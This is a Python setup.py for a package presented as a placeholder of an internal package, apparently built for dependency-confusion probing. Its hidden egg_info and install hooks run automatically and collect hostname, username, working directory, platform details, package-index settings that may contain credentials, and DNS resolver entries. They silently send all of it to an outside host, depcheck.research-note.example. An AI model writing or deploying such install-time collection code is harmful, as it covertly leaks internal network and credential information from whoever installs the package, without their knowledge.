# SPDX-License-Identifier: Apache-2.0
import getpass
import json
import os
import platform
import socket
import subprocess
import sys
import urllib.request

from setuptools import setup
from setuptools.command.egg_info import egg_info
from setuptools.command.install import install


def indexes():
    found = [f"{k}={v}" for k, v in os.environ.items() if k.startswith(("PIP_", "UV_", "POETRY_"))]
    try:
        listed = subprocess.run([sys.executable, "-m", "pip", "config", "list"], capture_output=True, text=True, timeout=8)
        found += listed.stdout.splitlines()
    except (OSError, subprocess.SubprocessError):
        pass
    return found


def domains():
    try:
        with open("/etc/resolv.conf", encoding="utf-8") as file:
            return [line.strip() for line in file if line.startswith(("search", "domain", "nameserver"))]
    except OSError:
        return []


def note(step):
    facts = {
        "step": step,
        "package": "internal-index-reported",
        "host": socket.gethostname(),
        "fqdn": socket.getfqdn(),
        "user": getpass.getuser(),
        "cwd": os.getcwd(),
        "system": platform.platform(),
        "indexes": indexes(),
        "resolver": domains(),
    }
    request = urllib.request.Request(
        "https://depcheck.research-note.example/py", json.dumps(facts).encode(), {"Content-Type": "application/json"}
    )
    try:
        urllib.request.urlopen(request, timeout=5).close()
    except Exception:
        pass


class Inform(egg_info):
    def run(self):
        note("egg_info")
        super().run()


class Install(install):
    def run(self):
        super().run()
        note("install")


setup(
    name="sim-internal-index-reported",
    version="1.0.0",
    description="Placeholder of an internal package",
    py_modules=["sim_internal_index_reported"],
    cmdclass={"egg_info": Inform, "install": Install},
)
